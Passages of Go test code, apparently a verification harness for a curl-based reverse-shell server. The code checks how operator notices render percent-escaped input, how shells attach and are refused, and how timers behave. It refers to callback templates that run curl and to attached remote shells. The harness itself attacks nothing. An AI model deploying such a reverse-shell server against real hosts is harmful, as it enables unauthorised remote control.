		r.Violate(ev.Violation{Signature: sig + "/" + c.Position, What: fmt.Sprintf("%s with text %q: %s; notices: %s", c.Position, c.Text, what, hworld.NoticeText(notices)), Kind: "c10", Replay: c})
	}
	found := false
	for _, cl := range notices {
		if cl.Plain {
			continue
		}
		for _, a := range c10Artefacts {
			if strings.Contains(cl.Line, a) && !c10ClientSent(c.Text, a) {
				v("formatter-artefact", fmt.Sprintf("notice %q contains %q", cl.Line, a))
				return
			}
		}
		if strings.Contains(cl.Line, marker) {
			found = true
			if "" != want && !strings.Contains(cl.Line, want) {
				v("text-not-verbatim", fmt.Sprintf("notice %q does not contain %q", cl.Line, want))
				return
			}
		}
	}
	if !found {
		v("no-notice", fmt.Sprintf("no notice starting %q", marker))
	}
}

func c10(r *ev.Result, tier string) {
	maxL := 2
	if !isQuick(tier) {
		maxL = 3
	}
	r.Rule = fmt.Sprintf("every string of <=%d tokens over %q and the URL escapes %q in each position {file path, file query, c2 parameter (valid and invalid escapes), c2 header, "+
		"other query parameter on /c, /i/ ID, /o/ ID} sent over real TLS to the real server (files served); plus the accepting paths (/i, /o attach with %%-bearing IDs), "+
		"Host as callback address, the template-error and file-error branches; a case counts when the wire syntax can carry it (the rest is skipped, counted separately)", maxL+1, c10Raw, c10Escapes)
	all := c10Strings(append(append([]string{}, c10Raw...), c10Escapes...), maxL+1)
	positions := []string{"file-path", "file-query", "c2-param", "c2-param-bad-escape", "c2-header", "script-query-noise", "input-id-refused", "output-id-refused"}

	base := ev.Scratch("c10-")
	defer os.RemoveAll(base)
	fdir := filepath.Join(base, "files")
	os.MkdirAll(fdir, 0o755)
	os.WriteFile(filepath.Join(fdir, "zz"), []byte("file\n"), 0o644)

	var (
		mu      sync.Mutex
		sent    int
		skipped int
	)
	nw := ncpu()
	parallel(nw, func(wi int) {
		w, err := hworld.Start(hworld.Config{FDir: fdir})
		if nil != err {
			ev.Broken("starting server: %s", err)
		}
		defer w.Stop()
		/* Hold an input and an output with other IDs so that /i/X and /o/X
		are refused at once (the refusal notice carries the ID). */
		hold := func(ep string) *hworld.Conn {
			c, err := w.Dial("")
			if nil != err {
				ev.Broken("dial: %s", err)
			}
			if "/i/held" == ep {
				c.Send(hworld.Get(ep, w.Addr))
			} else {
				c.Send("POST " + ep + " HTTP/1.1\r\nHost: " + w.Addr + "\r\nTransfer-Encoding: chunked\r\n\r\n")
			}
			if _, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "connected: ID") }); !ok {
				ev.Broken("holding %s: no notice", ep)
			}
			return c
		}
		hi := hold("/i/held")
		defer hi.Close()
		ho := hold("/o/held")
		defer ho.Close()
		w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is ready") })
		conn, err := w.Dial("")
		if nil != err {
			ev.Broken("dial: %s", err)
		}
		defer func() { conn.Close() }()
		n, sk := 0, 0
		for si := wi; si < len(all); si += nw {
			for _, pos := range positions {
				c := c10Case{Position: pos, Text: all[si]}
				raw, want, marker, ok := c10Request(c, w.Addr)
				if !ok {
					sk++
					continue
				}
				res, err := conn.Do(raw)
				if nil != err || 400 == resStatus(res) && "c2-param-bad-escape" != pos {
					/* The server closes after a 400; reconnect. */
					conn.Close()
					if conn, err = w.Dial(""); nil != err {
						ev.Broken("redial: %s", err)
					}
					if nil == res {
						if res, err = conn.Do(raw); nil != err {
							ev.Broken("request %q: %s", raw, err)
						}
					}
				}
				n++
				c10Judge(r, c, w.Drain(), want, marker)
				if strings.EqualFold(res.Header.Get("Connection"), "close") {
					conn.Close()
					if conn, err = w.Dial(""); nil != err {
						ev.Broken("redial: %s", err)
					}
				}
			}
		}
		mu.Lock()
		sent += n
		skipped += sk
		mu.Unlock()
	})
	r.Evaluations += sent
	r.Distinct += sent
	r.Set("cases_not_expressible_on_the_wire", skipped)

	/* Accepting paths and the other reporting branches, sequentially. */
	n := c10Branches(r, base, fdir, c10Strings(append(append([]string{}, c10Raw...), c10Escapes...), 2))
	r.Evaluations += n
	r.Distinct += n
	r.Set("branch_cases", n)
	/* The client address: a zoned link-local IPv6 client ("fe80::1%eth0")
	carries a percent sign into every notice about its requests. */
	nz := c10ZonedClient(r, fdir)
	r.Evaluations += nz
	r.Distinct += nz
	r.Set("zoned_client_address_cases", nz)
	r.Set("handshake_burst_clients_checked", c10HandshakeBurst(r))
	{
		n := c10SingleFileName(r, base)
		r.Add(n)
		r.AddDistinct(n)
		r.Set("single_file_with_percent_in_its_name_requests", n)
	}
	{
		n := c10Concurrent(r, fdir)
		r.Add(n)
		r.AddDistinct(n)
		r.Set("concurrent_file_requests", n)
	}
	/* The last seam: from the operator channel to the terminal, through
	the real Shell. */
	runTermSeam(r, "c10", 0, "c10term")
	/* The operator's terminal: colour-less ones too. */
	for _, env := range [][]string{{"TERM=dumb"}, {"TERM"}, {"NO_COLOR=1", "TERM=xterm-256color"}} {
		runTermSeamEnv(r, "c10", 0, "c10term", env)
	}
	r.Sample(6, c10Case{Position: "file-path", Text: "%20%25s"})
	r.Sample(6, c10Case{Position: "c2-param", Text: "%25s%25d"})
	r.Sample(6, c10Case{Position: "input-id-refused", Text: "%25!"})
	r.Assume("only requests net/http lets through to a handler can be explored (an invalid escape in the path is answered 400 by the library before any handler runs)")
	r.Assume("the call-site clause of the quantifier (computed strings in format position anywhere in the tree) is not decided by request exploration; only sites a request reaches are exercised")
}

func resStatus(r *hworld.Response) int {
	if nil == r {
		return 0
	}
	return r.Status
}

// c10Branches exercises the accepting shell paths, Host as callback address
// and the error branches of the script and file handlers.
func c10Branches(r *ev.Result, base, fdir string, texts []string) int {
	n := 0
	/* (1) /i and /o attaching with the ID; Host header as callback. */
	w, err := hworld.Start(hworld.Config{FDir: fdir})
	if nil != err {
		ev.Broken("%s", err)
	}
	for _, t := range texts {
		unesc, uerr := url.PathUnescape(t)
		if nil == uerr && "" != unesc && !strings.ContainsAny(t, "#? /") && !strings.Contains(unesc, "/") {
			for _, ep := range []string{"/i/", "/o/"} {
				c, err := w.Dial("")
				if nil != err {
					ev.Broken("%s", err)
				}
				if "/i/" == ep {
					c.Send(hworld.Get(ep+t, w.Addr))
				} else {
					c.Send("POST " + ep + t + " HTTP/1.1\r\nHost: " + w.Addr + "\r\nTransfer-Encoding: chunked\r\n\r\n")
				}
				ns, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "connected: ID") })
				if ok {
					/* A bidirectional client next to it: the side that
					is refused for the ID's sake is told which ID was
					expected - the attached client's text. */
					cio, err := w.Dial("")
					if nil != err {
						ev.Broken("%s", err)
					}
					/* (Which of its two sides is refused first, and whether the
					other still gets as far as a notice, is the scheduler's
					choice: the request is answered once both are done, and
					what has been said by then is judged.) */
					_, derr := cio.Do("POST /io HTTP/1.1\r\nHost: " + w.Addr + "\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n")
					cio.Close()
					rs := w.Drain()
					named := false
					for _, cl := range rs {
						if strings.Contains(cl.Line, "Rejected") && strings.Contains(cl.Line, "with ID") {
							named = true
						}
					}
					if nil == derr && named {
						c10Judge(r, c10Case{Position: "io-refused-next-to" + strings.TrimSuffix(ep, "/"), Text: t}, rs, strconv.Quote(unesc), "with ID")
						n++
					} else if nil == derr {
						c10Judge(r, c10Case{Position: "io-refused-next-to" + strings.TrimSuffix(ep, "/"), Text: t}, rs, "", "Rejected")
					}
				}
				c.Close()
				more, ok2 := w.WaitNotice(func(cl opshell.CLine) bool { return strings.HasPrefix(cl.Line, "\ncurl") })
				cs := c10Case{Position: "attach" + strings.TrimSuffix(ep, "/"), Text: t}
				if !ok || !ok2 {
					r.Violate(ev.Violation{Signature: "no-notice/" + cs.Position, What: fmt.Sprintf("%s%s: notices never came: %s", ep, t, hworld.NoticeText(append(ns, more...))), Kind: "c10", Replay: cs})
				} else {
					c10Judge(r, cs, append(ns, more...), strconv.Quote(unesc), "connected: ID")
				}
				n++
			}
		}
		/* Host header as the callback address. */
		if strings.TrimSpace(t) == t && !strings.ContainsAny(t, " #") {
			c, err := w.Dial("")
			if nil != err {
				ev.Broken("%s", err)
			}
			res, err := c.Do(hworld.Get("/c", t))
			c.Close()
			if nil == err && 200 == res.Status {
				c10Judge(r, c10Case{Position: "host", Text: t}, w.Drain(), "URL:"+t, "Sent script: ")
				n++
			} else if nil == err {
				c10Judge(r, c10Case{Position: "host-rejected", Text: t}, w.Drain(), "", "")
				n++
			}
			/* The same text in a label that claims to be punycode: the
			name cannot be converted, the error branch reports it. */
			for _, host := range []string{"xn--" + t + ".example.com", "sub.xn--" + t} {
				c, err := w.Dial("")
				if nil != err {
					ev.Broken("%s", err)
				}
				_, err = c.Do(hworld.Get("/c", host))
				c.Close()
				if nil == err {
					c10Judge(r, c10Case{Position: "host-punycode-label", Text: host}, w.Drain(), "", "")
					n++
				}
			}
		}
	}
	w.Stop()
	/* (1') the script cannot be delivered: a template of several MiB and a
	client that hangs up without reading; whatever is then reported carries
	the callback address as data. */
	{
		tf := filepath.Join(base, "tmpl-huge")
		os.WriteFile(tf, []byte("curl {{.URL}} {{.ID}}\n"+strings.Repeat("# padding padding padding padding padding padding padding padding\n", 120_000)), 0o644)
		w, err := hworld.Start(hworld.Config{Tmplf: tf})
		if nil != err {
			ev.Broken("%s", err)
		}
		for _, t := range texts {
			if strings.ContainsAny(t, "#& ") {
				continue
			}
			if _, qerr := url.QueryUnescape(t); nil != qerr {
				continue
			}
			c, err := w.Dial("")
			if nil != err {
				ev.Broken("%s", err)
			}
			c.Send(hworld.Get("/c?c2=cb"+t+".example", w.Addr))
			c.Close() /* Gone before the first byte of the answer. */
			ns, _ := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(strings.ToLower(cl.Line), "script") })
			c10Judge(r, c10Case{Position: "script-not-delivered", Text: t}, ns, "", "")
			n++
		}
		w.Stop()
		os.Remove(tf)
	}
	/* (2) template missing / unparsable / failing: the error branches. */
	for _, t := range texts {
		if strings.ContainsAny(t, "/\x00") {
			continue
		}
		tf := filepath.Join(base, "tmpl-"+t)
		w, err := hworld.Start(hworld.Config{Tmplf: tf})
		if nil != err {
			ev.Broken("%s", err)
		}
		c, _ := w.Dial("")
		c.Do(hworld.Get("/c", w.Addr))
		c10Judge(r, c10Case{Position: "template-file-name-missing", Text: t}, w.Drain(), "tmpl-"+t, "Error reading template: ")
		os.WriteFile(tf, []byte("{{.Nope"+t), 0o644)
		c.Do(hworld.Get("/c", w.Addr))
		c10Judge(r, c10Case{Position: "template-file-name-unparsable", Text: t}, w.Drain(), "tmpl-"+t, "Error reading template: ")
		os.WriteFile(tf, []byte("{{.Nope}}"), 0o644)
		c.Do(hworld.Get("/c?c2="+url.QueryEscape(t), w.Addr))
		c10Judge(r, c10Case{Position: "template-exec-failure", Text: t}, w.Drain(), "", "Failed to execute callback template: ")
		os.Remove(tf)
		c.Close()
		w.Stop()
		n += 3
		/* files directory that cannot be opened */
		w, err = hworld.Start(hworld.Config{FDir: filepath.Join(base, "nodir-"+t)})
		if nil != err {
			ev.Broken("%s", err)
		}
		c, _ = w.Dial("")
		c.Do(hworld.Get("/x", w.Addr))
		c10Judge(r, c10Case{Position: "files-dir-name-missing", Text: t}, w.Drain(), "nodir-"+t, "Could not open ")
		c.Close()
		w.Stop()
		n++
	}
	return n
}

// c10ZonedClient connects from every link-local IPv6 address of this host
// (the only client addresses that contain a percent sign) and checks the
// notices.  Returns the number of requests made (0 if the host has no such
// address).
func c10ZonedClient(r *ev.Result, fdir string) int {
	ifs, _ := net.Interfaces()
	var zoned []string
	for _, nif := range ifs {
		as, _ := nif.Addrs()
		for _, a := range as {
			if ipn, ok := a.(*net.IPNet); ok && ipn.IP.IsLinkLocalUnicast() && nil == ipn.IP.To4() {
				zoned = append(zoned, ipn.IP.String()+"%"+nif.Name)
			}
		}
	}
	n := 0
	for _, z := range zoned {
		w, err := hworld.Start(hworld.Config{Listen: "[::]:0", FDir: fdir})
		if nil != err {
			continue
		}
		addr := net.JoinHostPort(z, w.Port)
		reqs := []struct{ pos, raw, marker string }{
			{"client-address/file", hworld.Get("/zz?q=1", "h"), "File requested: "},
			{"client-address/script", hworld.Get("/c?c2=x.example", "h"), "Sent script: "},
			{"client-address/script-error", hworld.Get("/c?c2=%zz", "h"), "Could not determine callback URL: "},
		}
		for _, rq := range reqs {
			c, err := hworld.DialAddr(addr, "")
			if nil != err {
				break
			}
			c.Do(rq.raw)
			c.Close()
			c10Judge(r, c10Case{Position: rq.pos, Text: z}, w.Drain(), "["+z+"]", rq.marker)
			n++
		}
		/* net/http's own notices about a connection (the server's error
		log ends up on the operator's terminal too): plaintext spoken to
		the TLS port, and a handshake that is abandoned. */
		for _, probe := range []string{"GET / HTTP/1.0\r\n\r\n", "\x16\x03\x01\x00\x05hello"} {
			pc, err := net.DialTimeout("tcp", addr, hworld.Watchdog)
			if nil != err {
				break
			}
			pc.Write([]byte(probe))
			ns, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "TLS handshake error") })
			pc.Close()
			if ok {
				c10Judge(r, c10Case{Position: "client-address/server-error", Text: z}, ns, "["+z+"]", "TLS handshake error")
				n++
			}
		}
		/* and through the broker: an attach and its closure */
		if c, err := hworld.DialAddr(addr, ""); nil == err {
			c.Send(hworld.Get("/i/zoned", "h"))
			ns, _ := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "connected: ID") })
			c.Close()
			more, _ := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is gone") })
			c10Judge(r, c10Case{Position: "client-address/attach", Text: z}, append(ns, more...), "["+z+"]", "connected: ID")
			n++
		}
		w.Stop()
	}
	return n
}

// c10HandshakeBurst: many clients fail the TLS handshake at the same moment;
// the server's error log reports each of them, and each notice names its own
// client (the address is the client's text here).  A sampling complement for
// whatever the notices share on their way to the operator.
func c10HandshakeBurst(r *ev.Result) int {
	w, err := hworld.Start(hworld.Config{OchCap: 1 << 14})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	n := 0
	for round := 0; round < 25; round++ {
		const clients = 64
		var (
			wg    sync.WaitGroup
			mu    sync.Mutex
			addrs []string
		)
		start := make(chan struct{})
		for i := 0; i < clients; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				c, err := net.DialTimeout("tcp", w.Addr, hworld.Watchdog)
				if nil != err {
					return
				}
				defer c.Close()
				mu.Lock()
				addrs = append(addrs, c.LocalAddr().String())
				mu.Unlock()
				<-start
				c.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
				c.SetReadDeadline(time.Now().Add(hworld.Watchdog))
				io.Copy(io.Discard, c)
			}()
		}
		/* Everybody connected? then all at once. */
		for deadline := time.Now().Add(hworld.Watchdog); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
			mu.Lock()
			k := len(addrs)
			mu.Unlock()
			if k == clients {
				break
			}
		}
		close(start)
		wg.Wait()
		seen := map[string]int{}
		got := 0
		w.WaitNotice(func(cl opshell.CLine) bool {
			if strings.Contains(cl.Line, "TLS handshake error from ") {
				got++
				for _, a := range addrs {
					if strings.Contains(cl.Line, "from "+a+":") {
						seen[a]++
					}
				}
			}
			return got >= len(addrs)
		})
		for _, a := range addrs {
			if 1 != seen[a] {
				var dup []string
				for b, k := range seen {
					if k > 1 {
						dup = append(dup, fmt.Sprintf("%s x%d", b, k))
					}
				}
				r.Violate(ev.Violation{Signature: "client-address-swapped/server-error", Kind: "c10burst", Replay: map[string]int{"clients_failing_the_handshake_at_once": clients},
					What: fmt.Sprintf("%d clients failed the TLS handshake at the same moment: the client at %s is named in %d notices (others named more than once: %v); %d notices in all", len(addrs), a, seen[a], dup, got)})
				return n
			}
			n++
		}
	}
	return n
}

func c10Replay(kind string, raw json.RawMessage) int {
	if "c10burst" == kind {
		fmt.Println("the burst of failing handshakes is a sampling complement; it is replayed by re-running ./run C10 quick")
		return 2
	}
	var c c10Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	base := ev.Scratch("c10r-")
	defer os.RemoveAll(base)
	fdir := filepath.Join(base, "files")
	os.MkdirAll(fdir, 0o755)
	r := ev.New("C10", "quick", "exploration")
	req, want, marker, ok := c10Request(c, "127.0.0.1")
	if !ok {
		n := c10Branches(r, base, fdir, []string{c.Text})
		fmt.Printf("branch cases run: %d\n", n)
	} else {
		w, err := hworld.Start(hworld.Config{FDir: fdir})
		if nil != err {
			fmt.Println(err)
			return 2
		}
		defer w.Stop()
		conn, _ := w.Dial("")
		res, err := conn.Do(req)
		ns := w.Drain()
		fmt.Printf("request  %q\nresponse %v %v\nnotices  %s\n", req, resStatus(res), err, hworld.NoticeText(ns))
		c10Judge(r, c, ns, want, marker)
	}
	if r.NViolations() > 0 {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// c10Concurrent: many clients at the same moment, each request with a text of
// its own (percent signs, escapes, semicolons in the query): every request has
// exactly one notice, which carries its own target character for character.
func c10Concurrent(r *ev.Result, fdir string) int {
	w, err := hworld.Start(hworld.Config{FDir: fdir, OchCap: 1 << 16})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	w.Drain()
	const clients, per = 16, 250
	shapes := []string{"/cc-%d-%d-a%%20b?x=%%31;y=%%25s", "/cc-%d-%d-%%25d?q=%%s&r=%%v", "/cc-%d-%d?a=1;b=2;c=%%41", "/cc-%d-%d-100%%25?%%"}
	var (
		mu   sync.Mutex
		sent = map[string]bool{}
		wg   sync.WaitGroup
	)
	for k := 0; k < clients; k++ {
		wg.Add(1)
		go func(k int) {
			defer wg.Done()
			c, err := w.Dial("")
			if nil != err {
				return
			}
			defer c.Close()
			for i := 0; i < per; i++ {
				t := fmt.Sprintf(shapes[(k+i)%len(shapes)], k, i)
				if _, err := c.Do(hworld.Get(t, w.Addr)); nil != err {
					return
				}
				mu.Lock()
				sent[t] = true
				mu.Unlock()
			}
		}(k)
	}
	wg.Wait()
	got := map[string]int{}
	var strange []string
	for _, cl := range w.Drain() {
		i := strings.Index(cl.Line, "File requested: ")
		if i < 0 {
			continue
		}
		t := strings.TrimSpace(cl.Line[i+len("File requested: "):])
		got[t]++
		if !sent[t] && len(strange) < 3 {
			strange = append(strange, t)
		}
	}
	bad, example := 0, ""
	for t := range sent {
		if 1 != got[t] {
			bad++
			if "" == example {
				example = fmt.Sprintf("%q has %d notices", t, got[t])
			}
		}
	}
	if 0 != bad || 0 != len(strange) {
		r.Violate(ev.Violation{Signature: "concurrent/notice-not-verbatim", Kind: "c10", Replay: c10Case{Position: "concurrent-file-requests", Text: "16 clients x 250 requests"},
			What: fmt.Sprintf("%d file requests from %d clients at the same time, each with a target of its own: %d of them do not have exactly one notice carrying their target (%s); notices carry targets nobody sent: %q", len(sent), clients, bad, example, strange)})
	}
	return len(sent)
}

// c10SingleFileName: -serve-files-from names a single file whose own name
// contains percent signs: a configuration value is data too, wherever it is
// shown, and the request's target still comes out character for character.
func c10SingleFileName(r *ev.Result, base string) int {
	n := 0
	for _, name := range []string{"50%off.sh", "100%s.sh", "%d%v%!.sh"} {
		f := filepath.Join(base, name)
		if err := os.WriteFile(f, []byte("payload\n"), 0o644); nil != err {
			ev.Broken("%s", err)
		}
		w, err := hworld.Start(hworld.Config{FDir: f})
		if nil != err {
			ev.Broken("%s", err)
		}
		for _, t := range []string{"/a%20b?x=%d&y=100%25", "/plain", "/%73%25s?%v", "/x?q=%!"} {
			c, err := w.Dial("")
			if nil != err {
				ev.Broken("%s", err)
			}
			w.Drain()
			_, derr := c.Do(hworld.Get(t, w.Addr))
			c.Close()
			if nil != derr {
				continue
			}
			c10Judge(r, c10Case{Position: "single-file-named-" + name, Text: t}, w.Drain(), t, "File requested")
			n++
		}
		w.Stop()
	}
	return n
}
