package checks

/*
 * The quiet spell: C02 and C03 over real connections with time passing.
 *
 * A second build of this program ("vclock" flavour: every import of package
 * time in internal/hsrv and internal/iobroker is redirected to the virtual
 * clock verifx/vtime; at the pinned commit neither package uses a clock, so
 * that build equals the base one) runs the worker below.  For each kind of
 * shell, each length of spell and each position of the spell (before any
 * traffic / after some), the virtual clock is advanced timer by timer (every
 * timer or ticker of the HTTP layer and the broker that becomes due fires, in
 * deadline order); afterwards output and input must still flow exactly as
 * C03 and C02 say, and nothing that was not entered may have reached the
 * shell.  Every wait is on an acknowledgement.
 */

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"os/exec"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
	"github.com/magisterquis/curlrevshell/verifx/vtime"
)

type qsCase struct {
	Flavour string `json:"flavour"` /* Tells ./run replay which build to use. */
	Kind    string `json:"kind"`
	Spell   string `json:"spell"`
	Traffic bool   `json:"traffic_before_spell"`
}

type qsViol struct {
	Prop string `json:"prop"`
	Sig  string `json:"sig"`
	What string `json:"what"`
	Case qsCase `json:"case"`
}

type qsReport struct {
	Scenarios   int      `json:"scenarios"`
	TimersArmed int      `json:"timers_armed"`
	Firings     int      `json:"timer_firings"`
	Viols       []qsViol `json:"violations"`
}

var (
	qsKinds  = []string{"uni", "io"}
	qsSpells = []time.Duration{time.Second, 20 * time.Second, 2 * time.Minute, 20 * time.Minute}
)

// qsMaxFirings bounds one spell (a 1 s ticker over 20 minutes stays below).
const qsMaxFirings = 1500

func qsRun(c qsCase, rep *qsReport) {
	v := func(prop, sig, what string) {
		rep.Viols = append(rep.Viols, qsViol{Prop: prop, Sig: "quiet-spell/" + sig + "/" + c.Kind, Case: c,
			What: fmt.Sprintf("%s shell, %s of quiet (traffic before: %v): %s", c.Kind, c.Spell, c.Traffic, what)})
	}
	spell, _ := time.ParseDuration(c.Spell)
	vtime.Reset(time.Now())
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	in, out, err := attachShell(w, c.Kind, "k")
	if nil != err {
		v("C03", "no-shell", err.Error())
		return
	}
	defer in.Close()
	defer out.Close()
	var (
		inBody  io.Reader
		entered string
		gotIn   string
		sent    string
		shown   string
	)
	enter := func(l string) bool {
		w.Ich <- l
		entered += l + "\n"
		if nil == inBody {
			res, err := in.ReadHeader("GET")
			if nil != err {
				v("C02", "line-not-pushed", fmt.Sprintf("line %q was entered, no response header came: %v", l, err))
				return false
			}
			inBody = res.Body
		}
		got, err := readUntil(in, inBody, l+"\n")
		gotIn += got
		if nil != err {
			v("C02", "line-not-pushed", fmt.Sprintf("line %q was entered but did not reach the shell (got %q, %v)", l, trunc80(got), err))
			return false
		}
		return true
	}
	send := func(s string) bool {
		out.Send(chunk(s))
		sent += s
		_, ok := w.WaitNotice(func(cl opshell.CLine) bool {
			if cl.Plain {
				shown += cl.Line
			} else if strings.Contains(cl.Line, "Shell is gone") {
				return true
			}
			return len(shown) >= len(sent)
		})
		if !ok || shown != sent {
			v("C03", "output-lost", fmt.Sprintf("%d bytes of output were sent so far, %d were displayed (last sent %q; displayed ends %q)", len(sent), len(shown), s, trunc80(tail(shown, 60))))
			return false
		}
		return true
	}
	if c.Traffic {
		if !enter("before-the-spell") || !send("output before the spell\n") {
			return
		}
	}
	/* The spell. */
	for i := 0; i < 10; i++ {
		time.Sleep(time.Millisecond)
		rep.Firings += vtime.AdvanceN(spell/10, func() { time.Sleep(2 * time.Millisecond) }, qsMaxFirings)
	}
	time.Sleep(5 * time.Millisecond)
	for _, cl := range w.Drain() {
		switch {
		case cl.Plain:
			shown += cl.Line
		case strings.Contains(cl.Line, "Shell is gone"), strings.Contains(cl.Line, "closed"):
			v("C03", "shell-ended-by-itself", fmt.Sprintf("nobody ended a stream, yet the operator was told %q", cl.Line))
			return
		}
	}
	if shown != sent {
		v("C03", "output-invented", fmt.Sprintf("during the spell %q was displayed, the shell had sent %q", trunc80(shown), trunc80(sent)))
		return
	}
	/* Afterwards: output chunk by chunk, then lines, then more output. */
	for i := 0; i < 24; i++ {
		if !send(fmt.Sprintf("after-the-spell output %02d\n", i)) {
			return
		}
	}
	for i := 0; i < 3; i++ {
		if !enter(fmt.Sprintf("after-the-spell line %d", i)) {
			return
		}
	}
	if gotIn != entered {
		v("C02", "input-changed", fmt.Sprintf("the shell's input stream carried %q, the operator entered %q", trunc80(gotIn), trunc80(entered)))
	}
	for i := 0; i < 8; i++ {
		if !send(fmt.Sprintf("more output %02d\n", i)) {
			return
		}
	}
	/* The clean end: everything is on the screen before the shell is gone. */
	out.Send("0\r\n\r\n")
	w.WaitNotice(func(cl opshell.CLine) bool {
		if cl.Plain {
			shown += cl.Line
		}
		return strings.Contains(cl.Line, "Shell is gone")
	})
	if shown != sent {
		v("C03", "output-changed", fmt.Sprintf("sent %d bytes, displayed %d by the time the shell was gone", len(sent), len(shown)))
	}
}

func tail(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

func qsCases() (cs []qsCase) {
	for _, k := range qsKinds {
		for _, sp := range qsSpells {
			for _, tr := range []bool{false, true} {
				cs = append(cs, qsCase{Flavour: "vclock", Kind: k, Spell: sp.String(), Traffic: tr})
			}
		}
	}
	return cs
}

func init() {
	workers["quietspell"] = func(args []string) int {
		var rep qsReport
		cases := qsCases()
		if 1 == len(args) {
			var c qsCase
			if err := json.Unmarshal([]byte(args[0]), &c); nil != err {
				return 2
			}
			cases = []qsCase{c}
		}
		for _, c := range cases {
			before := len(rep.Viols)
			qsRun(c, &rep)
			rep.Scenarios++
			rep.TimersArmed += vtime.Created()
			if len(rep.Viols) > before+0 && len(rep.Viols) >= 6 {
				break /* Enough to report. */
			}
		}
		if 1 != len(args) {
			qsBrokerShutdown(&rep)
			qsBlockedWriter(&rep)
			qsTearDown(&rep)
			qsAfterTearDown(&rep)
		}
		json.NewEncoder(os.Stdout).Encode(rep)
		return 0
	}
}

// qsBrokerShutdown: C04's "at shutdown the broker finishes only after every
// attached stream has ended", with time passing: a shell whose streams are
// not ended by the shutdown itself (their contexts are their callers'), a
// terminal that has stopped taking lines, Do's context cancelled, and then ten
// minutes on the virtual clock.
func qsBrokerShutdown(rep *qsReport) {
	c := qsCase{Flavour: "vclock", Kind: "broker-shutdown", Spell: "10m0s"}
	vtime.Reset(time.Now())
	ich := make(chan string, 4)
	och := make(chan opshell.CLine) /* Taken from only while the shell attaches. */
	b, err := hworld.NewBroker(ich, och)
	if nil != err {
		ev.Broken("%s", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	doRet := make(chan error, 1)
	go func() { doRet <- b.Do(ctx) }()
	sl := slog.New(slog.NewTextHandler(io.Discard, nil))
	sctx, scancel := context.WithCancel(context.Background())
	pr, pw := io.Pipe()
	var swg sync.WaitGroup
	swg.Add(2)
	go func() { defer swg.Done(); b.ConnectIn(sctx, sl, "quiet", io.Discard, "k") }()
	go func() { defer swg.Done(); b.ConnectOut(sctx, sl, "quiet", pr, "k") }()
	ready := false
	for deadline := time.After(hworld.Watchdog); !ready; {
		select {
		case cl := <-och:
			ready = strings.Contains(cl.Line, "Shell is ready")
		case <-deadline:
			ev.Broken("quiet-spell worker: the broker-level shell never became ready")
		}
	}
	cancel() /* Shutdown; nobody takes the operator's lines any more. */
	/* In steps, with pauses: what reacts to the shutdown may arm its timers
	a moment later. */
	for i := 0; i < 100; i++ {
		time.Sleep(2 * time.Millisecond)
		rep.Firings += vtime.AdvanceN(6*time.Second, func() { time.Sleep(2 * time.Millisecond) }, qsMaxFirings)
	}
	time.Sleep(5 * time.Millisecond)
	select {
	case err := <-doRet:
		rep.Viols = append(rep.Viols, qsViol{Prop: "C04", Sig: "quiet-spell/do-returned-early", Case: c,
			What: fmt.Sprintf("a shell is attached (its streams' contexts are not the broker's), the broker is told to shut down, ten minutes pass: Broker.Do returned (%v) although both streams are still attached", err)})
	default:
	}
	/* Let everything go. */
	scancel()
	pw.Close()
	done := make(chan struct{})
	go func() { swg.Wait(); close(done) }()
	for deadline := time.After(hworld.Watchdog); ; {
		select {
		case <-och:
			continue
		case <-done:
		case <-deadline:
		}
		break
	}
	rep.Scenarios++
	rep.TimersArmed += vtime.Created()
}

// quietSpell runs the worker in the vclock build and takes over the
// violations of the given property.
func quietSpell(r *ev.Result, prop string) {
	bin := os.Getenv("VERIF_VCLOCK_BIN")
	if "" == bin {
		r.Set("quiet_spell", "not run: no vclock build (VERIF_VCLOCK_BIN unset)")
		return
	}
	cmd := exec.Command(bin, "worker", "quietspell")
	cmd.Stderr = os.Stderr
	b, err := cmd.Output()
	var rep qsReport
	if nil != err || nil != json.Unmarshal(b, &rep) {
		ev.Broken("quiet-spell worker: %v: %s", err, trunc80(string(b)))
	}
	n := 0
	for _, x := range rep.Viols {
		if x.Prop != prop {
			continue
		}
		r.Violate(ev.Violation{Signature: x.Sig, What: x.What, Kind: "quietspell", Replay: x.Case})
		n++
	}
	r.Add(rep.Scenarios)
	r.AddDistinct(rep.Scenarios)
	r.Traces += rep.Scenarios
	r.Set("quiet_spell", map[string]any{
		"scenarios":                  rep.Scenarios,
		"kinds":                      qsKinds,
		"spells":                     []string{"1s", "20s", "2m", "20m"},
		"timers_armed_by_the_server": rep.TimersArmed,
		"timer_firings":              rep.Firings,
		"max_firings_per_spell":      qsMaxFirings,
	})
}

// quietSpellReplay replays one case (in the vclock build: ./run replay picks
// it from the artefact).
func quietSpellReplay(raw json.RawMessage) int {
	var c qsCase
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	var rep qsReport
	qsRun(c, &rep)
	for _, x := range rep.Viols {
